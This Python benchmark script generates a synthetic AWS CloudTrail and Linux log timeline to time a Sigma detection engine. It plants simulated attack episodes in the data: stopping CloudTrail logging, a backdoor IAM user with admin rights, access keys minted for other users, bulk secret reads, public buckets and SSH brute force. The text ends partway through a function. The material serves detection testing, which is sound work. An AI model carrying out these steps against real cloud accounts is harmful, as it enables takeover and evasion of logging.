"""Benchmark: every shipped Sigma rule over a synthetic timeline, against one DuckDB scan.

Why it exists: `cloudir detect` runs the whole rule set over a case's timeline, and a
responder runs it again after every capture, so its cost has to stay close to reading the
data once. This script measures that on a timeline that looks like a month of a busy AWS
account plus a few Linux hosts, next to the floor: one DuckDB full scan of the same
Parquet files with a single `raw ILIKE '%stoplogging%'`, what grepping the timeline for
one thing costs. The target (issue 20) is the whole rule set within 2.5x that floor.

The timeline is written straight to Parquet in a case folder (no gzip files, no `cloudir
timeline` run, which `ingest_cloudtrail.py` measures). CloudTrail records come from the
event builders in `common.py` (the ones `ingest_cloudtrail.py` writes to files) and become
rows through cloudir's own CloudTrail parser (`unwrap` + `to_row`), so every column holds
what a real timeline would; Linux rows (`linux:auth`, `linux:bash_history`, about 5%)
follow the `raw` shapes in docs/detection.md. Every row's raw JSON is unique (event and
request ids, times, keys, ports), so Parquet dictionaries cannot make the scan cheaper
than it is on real data. Each principal calls its own mix of about 40 APIs, mostly
Describe/List/Get, so the enumeration correlations do not fire on benign traffic; about
0.1% of rows are attack episodes the shipped rules do fire on (StopLogging, an access key
for another user, a GetSecretValue burst, console login without MFA, a public bucket
policy, enumeration with AccessDenied, an SSH brute force, a reverse shell, ...), so the
findings are not empty. Generation is seeded, runs one process per core, is not measured,
and is cached under --out keyed by rows and seed (`make clean` does not remove it; delete
the folder).

Each measured command runs as a fresh process, --repeat times (the median is reported),
after one untimed floor run that warms the OS page cache for all of them. Peak memory is
read by `common.run_measured`, as for every benchmark: the largest process's RSS
(`/usr/bin/time`, wait4) and the whole tree's PSS sampled from /proc; a run is killed if
its tree passes --max-memory.
- floor: DuckDB `SELECT count(*) ... WHERE raw ILIKE '%stoplogging%'` over the timeline
  Parquet, on a connection from `cloudir.analyze.duck.connect()` as cloudir's own;
- rule compile: `cloudir rules validate <shipped rules> --json`: load, convert and
  test-bind every rule against an empty timeline, no data read;
- cloudir detect: `cloudir detect --case <case> --json`, all a user waits for (startup,
  rule compile, the scan, findings written).
With --per-rule it then works in this process through the engine's own functions, to show
where the time goes: the phases (rule compile, the scan into `_hits` with the
correlations, findings), each correlation again, and each rule's predicate alone (one
count(*) per rule; about half a minute at 200,000 rows, far too long at 5M).
--phases-only times the phases and the scan's parts without each rule alone: the shared
parse of `raw` alone, then with every rule's flag, beside `run_rules`.

Results: a table on stdout, and bench/results/detect-<rows>.{json,md,txt} (the .md is a
table to paste into the README).

Usage: .venv/bin/python bench/detect.py [--rows N] [--seed S] [--repeat R] [--out DIR]
           [--results DIR] [--timeout SECONDS] [--max-memory MIB] [--workers W] [--per-rule]
           [--phases-only] [--generate-only]
       make bench-detect BENCH_ARGS='--rows 200000 --per-rule'
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import hashlib
import inspect
import json
import multiprocessing
import os
import random
import re
import shlex
import shutil
import signal
import statistics
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field, replace
from importlib import metadata
from pathlib import Path
from typing import Any

import msgspec

# bench/ is on sys.path when this file runs as a script: the ingest benchmark's CloudTrail
# account and its process measuring are shared (common.py), so both count the same way.
from common import (
    ACCOUNT,
    BASE_EPOCH,
    MIB,
    REGIONS,
    Event,
    EventMaker,
    Measured,
    Principal,
    World,
    bucket_resource,
    build_world,
    cloudir_bin,
    cumulative,
    ingress_params,
    iso_stamp,
    log,
    machine_info,
    process_tree,
    random_alnum,
    random_hex,
    random_uuid,
    rss_kib,
    run_measured,
    write_results,
)

from cloudir.analyze.parsers import BATCH_ROWS, BatchBuilder, ErrorLog, Row
from cloudir.analyze.parsers.cloudtrail import promoted_from_raw, to_row, unwrap
from cloudir.analyze.schema import TIMELINE_SCHEMA
from cloudir.analyze.timeline import ROW_GROUP_ROWS, _parquet_writer
from cloudir.case import Case
from cloudir.case_folder import ERRORS_FILE, SUMMARY_FILE, CasePaths

GENERATOR_VERSION = 3  # 2: the promoted columns (schema 2); 3: vpcEndpointId promoted
DEFAULT_ROWS = 5_000_000
# One Parquet file per chunk, as `cloudir timeline` writes one per chunk; at 5M rows its
# chunks (32 MiB of gzip each) hold about 200,000 events.
CHUNK_ROWS = 200_000
# 2 rows/s: 5M rows are a month of a busy account, so each principal makes a few hundred
# calls an hour and the 10-minute burst correlations stay quiet on benign traffic.
ROWS_PER_SECOND = 2.0
LINUX_SHARE = 0.05
ATTACK_SHARE = 0.001
LINUX_ATTACK_SHARE = 0.3  # of the attack episodes
TARGET_RATIO = 2.5
FLOOR_NEEDLE = "stoplogging"
# zstd Parquet of this data measured ~520 bytes a row; keep a margin for findings.
DISK_BYTES_PER_ROW = 800
DEFAULT_TIMEOUT = 900
EXIT_FINDINGS = 1  # `cloudir detect` found something at --fail-on level: a success here
EXIT_SKIPPED = 3  # `cloudir rules validate`: some rule skipped (correlations, logsources)

CT_EVIDENCE = f"cloudtrail-{ACCOUNT}"
TRAIL_ARN = f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/org-trail"
VPCS = ("vpc-0a1b2c3d4e5f60718", "vpc-0f9e8d7c6b5a40312")
ATTACKER_AGENTS = (
    "aws-cli/1.18.69 Python/3.8.10 Linux/5.4.0-1041-aws botocore/1.17.0",
    "Boto3/1.9.201 Python/3.7.3 Linux/4.19.0-kali4-amd64 Botocore/1.12.201",
)
ATTACK_SECRETS = tuple(
    f"prod/{app}/{kind}"
    for app in ("orders", "payments", "billing", "search", "auth")
    for kind in ("db", "api-key", "jwt")
)
ENUMERATION = (
    ("iam", "ListUsers"), ("iam", "ListRoles"), ("iam", "ListPolicies"),
    ("iam", "ListGroups"), ("iam", "GetAccountAuthorizationDetails"),
    ("iam", "ListAccessKeys"), ("iam", "GetAccountSummary"), ("iam", "ListMFADevices"),
    ("s3", "ListBuckets"), ("ec2", "DescribeInstances"), ("ec2", "DescribeRegions"),
    ("ec2", "DescribeSnapshots"), ("ec2", "DescribeKeyPairs"), ("ec2", "DescribeVpcs"),
    ("lambda", "ListFunctions20150331"), ("secretsmanager", "ListSecrets"),
    ("ssm", "DescribeParameters"), ("rds", "DescribeDBInstances"), ("kms", "ListKeys"),
    ("sts", "GetCallerIdentity"), ("cloudtrail", "DescribeTrails"),
    ("guardduty", "ListDetectors"), ("organizations", "DescribeOrganization"),
    ("dynamodb", "ListTables"), ("ecr", "DescribeRepositories"),
)  # fmt: skip

# Each principal's own API mix (EventMaker method -> weight); see TimelineEventMaker.
PROFILES: dict[str, dict[str, float]] = {
    "alice": {
        "describe_instances": 4, "describe_security_groups": 2, "describe_volumes": 1,
        "describe_subnets": 1, "describe_vpcs": 1, "s3_get_object": 4, "s3_put_object": 2,
        "s3_list_buckets": 1, "s3_list_objects": 2, "get_caller_identity": 1,
        "assume_role": 1, "iam_read": 1, "describe_log_groups": 0.5,
    },
    "bob": {
        "console_login": 0.3, "describe_instances": 3, "describe_security_groups": 1,
        "s3_list_buckets": 1, "s3_bucket_acl": 1, "s3_get_bucket_policy": 0.5,
        "describe_db_instances": 1, "describe_log_groups": 1, "cloudtrail_lookup": 0.5,
        "iam_read": 1,
    },
    "deploy-bot": {
        "describe_instances": 3, "describe_security_groups": 2, "describe_subnets": 2,
        "describe_vpcs": 2, "describe_images": 1, "run_instances": 0.2, "create_tags": 1,
        "iam_read": 2, "s3_get_object": 1, "s3_put_object": 0.5, "get_caller_identity": 1,
        "put_event_selectors": 0.02,
    },
    "backup-svc": {
        "create_snapshot": 2, "describe_volumes": 2, "describe_snapshots": 2,
        "s3_put_object": 3, "kms_generate_data_key": 2, "s3_list_objects": 1,
    },
    "ci-runner": {
        "get_caller_identity": 2, "assume_role": 2, "ecr_get_authorization_token": 2,
        "s3_get_object": 2, "s3_put_object": 2, "describe_stacks": 1, "describe_images": 1,
    },
    "app-instance-role": {
        "s3_get_object": 5, "s3_put_object": 3, "kms_decrypt": 4, "kms_generate_data_key": 1,
        "get_secret_value": 0.1, "ssm_get_parameter": 0.3,
    },
    "lambda-orders-exec": {
        "kms_decrypt": 3, "s3_get_object": 2, "s3_put_object": 2, "get_secret_value": 0.1,
        "create_log_stream": 2,
    },
    "AWSReservedSSO_AdministratorAccess_5e4f3a2b1c0d9e8f": {
        "console_login": 0.2, "describe_instances": 2, "describe_trails": 1,
        "get_trail_status": 1, "get_event_selectors": 0.5, "guardduty_list": 1,
        "iam_read": 2, "cloudtrail_lookup": 1, "describe_security_groups": 1,
    },
    "github-actions-deploy": {
        "describe_stacks": 2, "ecr_get_authorization_token": 1, "s3_put_object": 2,
        "s3_get_object": 1, "describe_instances": 1, "get_caller_identity": 1,
        "assume_role": 1, "lambda_invoke": 0.5,
    },
    "OrganizationAccountAccessRole": {
        "describe_trails": 1, "get_trail_status": 1, "get_event_selectors": 1,
        "guardduty_list": 1, "s3_bucket_acl": 1, "s3_get_bucket_policy": 1, "iam_read": 1,
        "describe_regions": 1,
    },
    "cloudtrail.amazonaws.com": {"kms_generate_data_key": 1, "s3_bucket_acl": 1},
    "ec2.amazonaws.com": {"assume_role": 1, "kms_generate_data_key": 0.5},
    "autoscaling.amazonaws.com": {"describe_instances": 1, "assume_role": 1},
    "s3.amazonaws.com": {"kms_decrypt": 1, "kms_generate_data_key": 1},
    "root": {"get_caller_identity": 1},  # root is given no benign traffic (weight 0)
}  # fmt: skip

Call = tuple[str, str, Any, Any, Event]


# --------------------------------------------------------------------------------------
# CloudTrail events
# --------------------------------------------------------------------------------------


def principal_key(p: Principal) -> str:
    """The name PROFILES knows a principal by: user, role, service or `root`."""
    ident = p.identity
    if ident.get("type") == "AssumedRole":
        return str(ident["sessionContext"]["sessionIssuer"]["userName"])
    return str(ident.get("userName") or ident.get("invokedBy") or ident["type"].lower())


class TimelineEventMaker(EventMaker):
    """The ingest generator's events, but each principal calls only its own APIs.

    The ingest benchmark draws principal and API independently, which is fine for parser
    speed; for detection it would have every principal call some 30 Describe/List/Get APIs
    and fire the enumeration correlations on benign data. Here each principal has a
    profile, as in a real account. The parent's `event()` is reused as it is: it is handed
    a world holding one principal and a template list holding that principal's mix.
    """

    def __init__(self, world: World, worlds: list[World], rng: random.Random, region: str):
        super().__init__(world, rng, region)
        self.worlds = worlds
        self.profiles = []
        for p in world.principals:
            mix = PROFILES[principal_key(p)]
            self.profiles.append(
                ([getattr(self, name) for name in mix], cumulative(list(mix.values())))
            )

    def call(
        self, who: int, when: int, template: Callable[[Principal], Call] | None = None
    ) -> Event:
        """An event by principal `who`: from its mix, or exactly `template` with no
        random error (the parent fails 3% of calls with AccessDenied)."""
        self.w = self.worlds[who]
        if template is None:
            self.templates, self.cum = self.profiles[who]
            return self.event(when)
        made: list[Call] = []

        def recording(p: Principal) -> Call:
            made.append(template(p))
            return made[-1]

        self.templates, self.cum = [recording], [1.0]
        event = self.event(when)
        extra = made[0][4]
        if "errorCode" in event and "errorCode" not in extra:
            del event["errorCode"]
            event.pop("errorMessage", None)
            if "errorMessage" in extra:  # a failed console login says so itself
                event["errorMessage"] = extra["errorMessage"]
            event["responseElements"] = made[0][3]
        return event

    # -- the APIs the ingest generator does not make -----------------------------------
    def describe_subnets(self, who: Principal) -> Call:
        vpc = self.rng.choice(VPCS)
        params = {
            "subnetSet": {},
            "filterSet": {"items": [{"name": "vpc-id", "valueSet": {"items": [{"value": vpc}]}}]},
        }
        return "ec2.amazonaws.com", "DescribeSubnets", params, None, {}

    def describe_vpcs(self, who: Principal) -> Call:
        params = {"vpcSet": {"items": [{"vpcId": v} for v in VPCS]}, "filterSet": {}}
        return "ec2.amazonaws.com", "DescribeVpcs", params, None, {}

    def describe_snapshots(self, who: Principal) -> Call:
        volume = self.rng.choice(self.w.volumes)
        params = {
            "snapshotSet": {},
            "ownersSet": {"items": [{"owner": "self"}]},
            "sharedUsersSet": {},
            "filterSet": {
                "items": [{"name": "volume-id", "valueSet": {"items": [{"value": volume}]}}]
            },
            "maxResults": 1000,
        }
        return "ec2.amazonaws.com", "DescribeSnapshots", params, None, {}

    def describe_images(self, who: Principal) -> Call:
        params = {
            "executableBySet": {},
            "imagesSet": {},
            "ownersSet": {"items": [{"owner": "self"}, {"owner": "amazon"}]},
            "filterSet": {
                "items": [
                    {"name": "name", "valueSet": {"items": [{"value": "al2023-ami-2023.*"}]}},
                    {"name": "architecture", "valueSet": {"items": [{"value": "x86_64"}]}},
                ]
            },
        }
        return "ec2.amazonaws.com", "DescribeImages", params, None, {}

    def describe_regions(self, who: Principal) -> Call:
        params = {"regionSet": {}, "allRegions": self.rng.random() < 0.5}
        return "ec2.amazonaws.com", "DescribeRegions", params, None, {}

    def create_tags(self, who: Principal) -> Call:
        rng = self.rng
        instance = rng.choice(self.w.instances)
        params = {
            "resourcesSet": {"items": [{"resourceId": instance}]},
            "tagSet": {
                "items": [
                    {"key": "Name", "value": f"app-{random_hex(rng, 6)}"},
                    {"key": "Environment", "value": "production"},
                    {"key": "DeployId", "value": random_uuid(rng)},
                ]
            },
        }
        response = {"requestId": random_uuid(rng), "_return": True}
        return "ec2.amazonaws.com", "CreateTags", params, response, {}

    def s3_list_objects(self, who: Principal) -> Call:
        rng = self.rng
        bucket = rng.choice(self.w.buckets)
        params = {
            "bucketName": bucket,
            "Host": f"{bucket}.s3.{self.region}.amazonaws.com",
            "list-type": "2",
            "prefix": f"{rng.choice(('exports', 'db', 'logs/app'))}/2024/07/{random_hex(rng, 4)}/",
            "max-keys": "1000",
            "encoding-type": "url",
        }
        extra: Event = {
            "additionalEventData": {
                "SignatureVersion": "SigV4",
                "CipherSuite": "TLS_AES_128_GCM_SHA256",
                "bytesTransferredIn": 0,
                "AuthenticationMethod": "AuthHeader",
                "x-amz-id-2": random_alnum(
                    rng, 76, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789+/"
                ),
                "bytesTransferredOut": rng.randrange(300, 90_000),
            },
            "resources": [bucket_resource(bucket)],
            "_readOnly": True,
            "_management": False,
        }
        return "s3.amazonaws.com", "ListObjects", params, None, extra

    def s3_get_bucket_policy(self, who: Principal) -> Call:
        bucket = self.rng.choice(self.w.buckets)
        params = {"bucketName": bucket, "Host": f"{bucket}.s3.amazonaws.com", "policy": ""}
        extra = {"resources": [bucket_resource(bucket)]}
        return "s3.amazonaws.com", "GetBucketPolicy", params, None, extra

    def describe_trails(self, who: Principal) -> Call:
        params = {"trailNameList": [TRAIL_ARN], "includeShadowTrails": True}
        return "cloudtrail.amazonaws.com", "DescribeTrails", params, None, {}

    def get_trail_status(self, who: Principal) -> Call:
        return "cloudtrail.amazonaws.com", "GetTrailStatus", {"name": TRAIL_ARN}, None, {}

    def get_event_selectors(self, who: Principal) -> Call:
        return "cloudtrail.amazonaws.com", "GetEventSelectors", {"trailName": TRAIL_ARN}, None, {}

    def put_event_selectors(self, who: Principal, reduced: bool = False) -> Call:
        selector: Event = {
            "readWriteType": "ReadOnly" if reduced else "All",
            "includeManagementEvents": True,
            "dataResources": [
                {
                    "type": "AWS::S3::Object",
                    "values": [f"arn:aws:s3:::{b}/" for b in self.w.buckets],
                }
            ],
            "excludeManagementEventSources": ["kms.amazonaws.com"] if reduced else [],
        }
        params = {"trailName": TRAIL_ARN, "eventSelectors": [selector]}
        response = {"trailARN": TRAIL_ARN, "eventSelectors": [selector]}
        return "cloudtrail.amazonaws.com", "PutEventSelectors", params, response, {}

    def describe_stacks(self, who: Principal) -> Call:
        stack = f"{self.rng.choice(self.w.functions)}-{self.rng.choice(('prod', 'staging'))}"
        return "cloudformation.amazonaws.com", "DescribeStacks", {"stackName": stack}, None, {}

    def ecr_get_authorization_token(self, who: Principal) -> Call:
        return "ecr.amazonaws.com", "GetAuthorizationToken", {"registryIds": [ACCOUNT]}, None, {}

    def describe_log_groups(self, who: Principal) -> Call:
        params = {"logGroupNamePrefix": f"/aws/lambda/{self.rng.choice(self.w.functions)}"}
        return "logs.amazonaws.com", "DescribeLogGroups", params, None, {}

    def describe_db_instances(self, who: Principal) -> Call:
        params = {"dBInstanceIdentifier": f"orders-{self.rng.choice(('prod', 'replica-1'))}"}
        return "rds.amazonaws.com", "DescribeDBInstances", params, None, {}


# --------------------------------------------------------------------------------------
# Linux rows
# --------------------------------------------------------------------------------------

HOSTS = ("web-01", "web-02", "web-03", "api-01", "bastion-01", "db-01")
SHELL_USERS = ("ec2-user", "ubuntu", "deploy", "alice", "bob")
BUILTINS = {"cd", "history", "unset", "export", "source", "set"}
BENIGN_COMMANDS = (
    "ls -la /srv/app/releases/{h8}", "cd /srv/app/releases/{h8}", "git pull origin main",
    "git checkout -b fix/{h6}", "git log --oneline -n {n}", "docker ps",
    "docker logs --tail {n} orders-api-{h6}", "docker compose up -d",
    "kubectl get pods -n prod", "kubectl logs -n prod orders-api-{h10} --since={n}m",
    "sudo systemctl restart nginx", "systemctl status app.service --no-pager",
    "tail -n {n} /var/log/nginx/error.log", "grep -c ' 500 ' /var/log/nginx/access.log",
    "vim /etc/nginx/conf.d/app.conf", "df -h", "free -m",
    "ps aux --sort=-%mem | head -n {n}", "aws s3 ls s3://acme-prod-assets/exports/{h6}/",
    "python3 manage.py showmigrations --plan", "journalctl -u app --since '{n} min ago'",
    "curl -s -o /dev/null -w '%{{http_code}}' http://localhost:8080/healthz?probe={h8}",
    "cat /srv/app/releases/{h8}/VERSION",
    "scp build-{h8}.tar.gz deploy@10.0.{a}.{b}:/srv/app/releases/",
    "tar xzf build-{h8}.tar.gz -C /srv/app/releases/{h8}", "htop",
)  # fmt: skip


def _image(command: str) -> str:
    """The program a history line runs, as an EXECVE record would name it."""
    first = command.split()[0]
    if first in BUILTINS:
        return "/usr/bin/bash"
    return first if first.startswith("/") else f"/usr/bin/{first}"


class LinuxMaker:
    """syslog auth lines and shell history commands, shaped as docs/detection.md says."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def _ip(self) -> str:
        return f"10.0.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"

    def auth(
        self,
        when: int,
        host: str,
        program: str,
        message: str,
        user: str | None = None,
        src_ip: str | None = None,
        outcome: str | None = None,
    ) -> Row:
        pid = self.rng.randrange(900, 65_000)
        stamp = iso_stamp(when)
        raw = msgspec.json.encode(
            {"timestamp": stamp, "host": host, "program": program, "pid": pid, "message": message}
        )
        return Row(
            stamp,
            "Log Time",
            "host",
            "linux:auth",
            host,
            user,
            src_ip,
            program,
            None,
            outcome,
            f"{host} {program}[{pid}]: {message}",
            f"host-{host}",
            hashlib.sha256(raw).hexdigest(),
            raw,
        )

    def command(self, when: int, host: str, user: str, command: str, cwd: str) -> Row:
        stamp = iso_stamp(when)
        image = _image(command)
        raw = msgspec.json.encode(
            {
                "timestamp": stamp,
                "host": host,
                "User": user,
                "Image": image,
                "CommandLine": command,
                "CurrentDirectory": cwd,
                "ParentImage": "/usr/bin/bash",
                "history_file": f"/home/{user}/.bash_history",
            }
        )
        return Row(
            stamp,
            "Command Time",
            "host",
            "linux:bash_history",
            host,
            user,
            None,
            f"exec:{image.rpartition('/')[2]}",
            None,
            None,
            f"{user}@{host}: {command}",
            f"host-{host}",
            hashlib.sha256(raw).hexdigest(),
            raw,
        )

    def benign(self, when: int) -> Row:
        rng = self.rng
        host = rng.choice(HOSTS)
        user = rng.choice(SHELL_USERS)
        if rng.random() < 0.5:
            template = rng.choice(BENIGN_COMMANDS)
            command = template.format(
                h6=random_hex(rng, 6),
                h8=random_hex(rng, 8),
                h10=random_hex(rng, 10),
                n=rng.randrange(5, 500),
                a=rng.randrange(256),
                b=rng.randrange(1, 255),
            )
            return self.command(when, host, user, command, f"/home/{user}")
        ip = self._ip()
        port = rng.randrange(1024, 65_535)
        pick = rng.random()
        if pick < 0.3:
            key = random_alnum(
                rng, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
            )
            message = (
                f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{key}"
            )
            return self.auth(when, host, "sshd", message, user, ip, "success")
        if pick < 0.5:
            message = f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)"
            return self.auth(when, host, "sshd", message, user)
        if pick < 0.65:
            message = f"Received disconnect from {ip} port {port}:11: disconnected by user"
            return self.auth(when, host, "sshd", message, None, ip)
        if pick < 0.8:
            command = rng.choice(("/usr/bin/systemctl restart nginx", "/usr/bin/journalctl -xe"))
            message = (
                f"{user} : TTY=pts/{rng.randrange(4)} ; PWD=/home/{user} ; USER=root ; "
                f"COMMAND={command}"
            )
            return self.auth(when, host, "sudo", message, user, None, "success")
        if pick < 0.995:
            message = (
                f"pam_unix(cron:session): session opened for user root(uid=0) by (uid=0) "
                f"[job {random_hex(rng, 8)}]"
            )
            return self.auth(when, host, "CRON", message, "root")
        message = f"Failed password for {user} from {ip} port {port} ssh2"  # a typo
        return self.auth(when, host, "sshd", message, user, ip, "failure")


# --------------------------------------------------------------------------------------
# One chunk: benign rows with attack episodes here and there
# --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class ChunkSpec:
    index: int
    rows: int
    start: int  # epoch seconds
    end: int
    seed: int


@dataclass
class ChunkStats:
    rows: int = 0
    raw_bytes: int = 0
    attack_rows: int = 0
    by_artifact: Counter[str] = field(default_factory=Counter)
    by_evidence: Counter[str] = field(default_factory=Counter)
    episodes: Counter[str] = field(default_factory=Counter)


class ChunkGenerator:
    """Rows in time order for one chunk; attack episodes take consecutive time slots."""

    def __init__(self, world: World, worlds: list[World], spec: ChunkSpec) -> None:
        self.rng = rng = random.Random(spec.seed)
        self.makers = {
            region: TimelineEventMaker(world, worlds, rng, region) for region, _ in REGIONS
        }
        self.regions = [r for r, _ in REGIONS]
        self.region_cum = cumulative([w for _, w in REGIONS])
        keys = [principal_key(p) for p in world.principals]
        self.index = {key: n for n, key in reversed(list(enumerate(keys)))}
        weights = [0.0 if key == "root" else w for key, w in zip(keys, world.weights, strict=True)]
        self.principal_cum = cumulative(weights)
        self.who = list(range(len(keys)))
        self.linux = LinuxMaker(rng)
        self.errors = ErrorLog(CT_EVIDENCE, "synthetic")
        self.number = 0
        self.east = self.makers["us-east-1"]

    def ct_row(self, event: Event) -> Row:
        raw, view = unwrap(msgspec.Raw(msgspec.json.encode(event)))
        self.number += 1
        row = to_row(raw, view, CT_EVIDENCE, self.number, self.errors)
        assert row is not None
        return row

    def benign(self, when: int) -> Row:
        rng = self.rng
        if rng.random() < LINUX_SHARE:
            return self.linux.benign(when)
        region = rng.choices(self.regions, cum_weights=self.region_cum, k=1)[0]
        who = rng.choices(self.who, cum_weights=self.principal_cum, k=1)[0]
        return self.ct_row(self.makers[region].call(who, when))

    # -- attack helpers ----------------------------------------------------------------
    def attacker(self, event: Event, ip: str, agent: str) -> Event:
        event["sourceIPAddress"] = ip
        event["userAgent"] = agent
        return event

    def attack_ip(self) -> str:
        rng = self.rng
        return f"{rng.choice((185, 45, 193))}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"  # noqa: E501

    def api(self, source: str, name: str, params: Any = None, response: Any = None) -> Any:
        """A template for one exact call."""

        def template(_: Principal) -> Call:
            return f"{source}.amazonaws.com", name, params, response, {}

        return template

    def deny(self, event: Event) -> Event:
        service = event["eventSource"].split(".")[0]
        event["errorCode"] = "Client.UnauthorizedOperation" if service == "ec2" else "AccessDenied"
        arn = event["userIdentity"].get("arn", "")
        event["errorMessage"] = (
            f"User: {arn} is not authorized to perform: {service}:{event['eventName']}"
        )
        event["responseElements"] = None
        return event

    # -- the episodes: each fills exactly len(times) rows -------------------------------
    def ep_stop_logging(self, times: list[int]) -> list[Row]:
        ip, agent = self.attack_ip(), self.rng.choice(ATTACKER_AGENTS)
        who = self.index["alice"]
        first = self.east.call(who, times[0], self.east.get_trail_status)
        second = self.east.call(
            who, times[1], self.api("cloudtrail", "StopLogging", {"name": TRAIL_ARN})
        )
        return [self.ct_row(self.attacker(e, ip, agent)) for e in (first, second)]

    def ep_access_key_other_user(self, times: list[int]) -> list[Row]:
        ip, agent = self.attack_ip(), self.rng.choice(ATTACKER_AGENTS)
        who = self.index["alice"]
        victim = self.rng.choice(("backup-svc", "deploy-bot", "ci-runner"))
        response = {
            "accessKey": {
                "userName": victim,
                "accessKeyId": "AKIA" + random_alnum(self.rng, 16),
                "status": "Active",
                "createDate": iso_stamp(times[1]),
            }
        }
        events = [
            self.east.call(who, times[0], self.api("iam", "ListUsers", {"maxItems": 1000})),
            self.east.call(
                who, times[1], self.api("iam", "CreateAccessKey", {"userName": victim}, response)
            ),
        ]
        return [self.ct_row(self.attacker(e, ip, agent)) for e in events]

    def ep_secrets_burst(self, times: list[int]) -> list[Row]:
        ip, agent = self.attack_ip(), self.rng.choice(ATTACKER_AGENTS)
        who = self.index["alice"]
        secrets = self.rng.sample(ATTACK_SECRETS, len(times) - 1)
        events = [self.east.call(who, times[0], self.api("secretsmanager", "ListSecrets"))]
        for when, secret in zip(times[1:], secrets, strict=True):
            template = self.api("secretsmanager", "GetSecretValue", {"secretId": secret})
            events.append(self.east.call(who, when, template))
        return [self.ct_row(self.attacker(e, ip, agent)) for e in events]

    def _console_login(self, success: bool, mfa: bool) -> Any:
        def template(_: Principal) -> Call:
            extra: Event = {
                "additionalEventData": {
                    "LoginTo": "https://console.aws.amazon.com/console/home",
                    "MobileVersion": "No",
                    "MFAUsed": "Yes" if mfa else "No",
                },
                "_eventType": "AwsConsoleSignIn",
                "_readOnly": False,
            }
            if not success:
                extra["errorMessage"] = "Failed authentication"
            response = {"ConsoleLogin": "Success" if success else "Failure"}
            return "signin.amazonaws.com", "ConsoleLogin", None, response, extra

        return template

    def ep_console_no_mfa(self, times: list[int]) -> list[Row]:
        ip = self.attack_ip()
        event = self.east.call(self.index["bob"], times[0], self._console_login(True, False))
        return [self.ct_row(self.attacker(event, ip, ATTACKER_AGENTS[0]))]

    def ep_console_bruteforce(self, times: list[int]) -> list[Row]:
        ip = self.attack_ip()
        who = self.index["bob"]
        events = [self.east.call(who, when, self._console_login(False, False)) for when in times]
        return [self.ct_row(self.attacker(e, ip, ATTACKER_AGENTS[0])) for e in events]

    def ep_root_login(self, times: list[int]) -> list[Row]:
        ip = self.attack_ip()
        event = self.east.call(self.index["root"], times[0], self._console_login(True, False))
        return [self.ct_row(self.attacker(event, ip, ATTACKER_AGENTS[0]))]

    def ep_bucket_policy_public(self, times: list[int]) -> list[Row]:
        bucket = self.rng.choice(self.east.w.buckets)
        policy = {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Sid": f"Public{random_hex(self.rng, 6)}",
                    "Effect": "Allow",
                    "Principal": "*",
                    "Action": "s3:GetObject",
                    "Resource": f"arn:aws:s3:::{bucket}/*",
                }
            ],
        }
        params = {
            "bucketName": bucket,
            "Host": f"{bucket}.s3.amazonaws.com",
            "bucketPolicy": policy,
            "policy": "",
        }
        event = self.east.call(
            self.index["alice"], times[0], self.api("s3", "PutBucketPolicy", params)
        )
        return [self.ct_row(self.attacker(event, self.attack_ip(), ATTACKER_AGENTS[1]))]

    def ep_enumeration(self, times: list[int]) -> list[Row]:
        ip, agent = self.attack_ip(), ATTACKER_AGENTS[1]
        who = self.index["alice"]
        rows = []
        for n, (when, (service, name)) in enumerate(zip(times, ENUMERATION, strict=True)):
            event = self.east.call(who, when, self.api(service, name))
            event["readOnly"] = True
            if n % 2:
                self.deny(event)
            rows.append(self.ct_row(self.attacker(event, ip, agent)))
        return rows

    def ep_security_group_open(self, times: list[int]) -> list[Row]:
        group = self.rng.choice(self.east.w.security_groups)
        params = ingress_params(group, "0.0.0.0/0")
        template = self.api("ec2", "AuthorizeSecurityGroupIngress", params)
        event = self.east.call(self.index["alice"], times[0], template)
        return [self.ct_row(self.attacker(event, self.attack_ip(), ATTACKER_AGENTS[0]))]

    def ep_event_selectors_reduced(self, times: list[int]) -> list[Row]:
        template = functools.partial(self.east.put_event_selectors, reduced=True)
        event = self.east.call(self.index["alice"], times[0], template)
        return [self.ct_row(self.attacker(event, self.attack_ip(), ATTACKER_AGENTS[0]))]

    def ep_backdoor_user(self, times: list[int]) -> list[Row]:
        ip, agent = self.attack_ip(), self.rng.choice(ATTACKER_AGENTS)
        who = self.index["alice"]
        name = f"svc-sync-{random_hex(self.rng, 4)}"
        user = {
            "path": "/",
            "userName": name,
            "userId": "AIDA" + random_alnum(self.rng, 17),
            "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
            "createDate": iso_stamp(times[0]),
        }
        key = {
            "accessKey": {
                "userName": name,
                "accessKeyId": "AKIA" + random_alnum(self.rng, 16),
                "status": "Active",
                "createDate": iso_stamp(times[1]),
            }
        }
        admin = {"userName": name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
        events = [
            self.east.call(
                who, times[0], self.api("iam", "CreateUser", {"userName": name}, {"user": user})
            ),
            self.east.call(
                who, times[1], self.api("iam", "CreateAccessKey", {"userName": name}, key)
            ),
            self.east.call(who, times[2], self.api("iam", "AttachUserPolicy", admin)),
        ]
        return [self.ct_row(self.attacker(e, ip, agent)) for e in events]

    def ep_ssh_bruteforce(self, times: list[int]) -> list[Row]:
        rng = self.rng
        host = rng.choice(("bastion-01", "web-01"))
        ip = self.attack_ip()
        names = ("admin", "test", "oracle", "postgres", "git", "ubuntu", "user", "pi", "ftp")
        rows = []
        for when in times[:-1]:
            user = rng.choice(names)
            port = rng.randrange(30_000, 65_000)
            if rng.random() < 0.5:
                message = f"Invalid user {user} from {ip} port {port}"
            else:
                message = f"Failed password for invalid user {user} from {ip} port {port} ssh2"
            rows.append(self.linux.auth(when, host, "sshd", message, user, ip, "failure"))
        message = (
            f"Accepted password for ubuntu from {ip} port {rng.randrange(30_000, 65_000)} ssh2"
        )
